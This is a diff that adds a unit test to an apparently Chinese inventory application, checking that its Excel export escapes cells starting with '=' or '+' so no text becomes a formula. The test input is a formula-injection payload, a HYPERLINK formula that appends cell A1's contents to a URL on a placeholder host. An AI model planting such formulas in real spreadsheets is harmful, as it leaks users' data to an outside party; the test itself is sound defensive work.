@@ -277,3 +277,21 @@ def test_an_exported_item_sheet_imports_again(client, user, big):
         "rows"
     ][:1]
     assert result["ok"]
+
+
+def test_excel_never_turns_text_into_a_formula(db):
+    from openjxc.reports.excel import xlsx_response
+
+    name = '=HYPERLINK("http://x/?"&A1,"点击")'
+    r = xlsx_response(
+        "x.xlsx",
+        "x",
+        [("item_name", "名称"), ("qty", "数量")],
+        [{"item_name": name, "qty": "-3"}, {"item_name": "+1 杯", "qty": "2.5"}],
+    )
+    ws = load_workbook(io.BytesIO(r.content)).active
+    assert [[c.value for c in row] for row in ws.iter_rows(min_row=4)] == [
+        ["'" + name, -3],
+        ["'+1 杯", 2.5],
+    ]
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
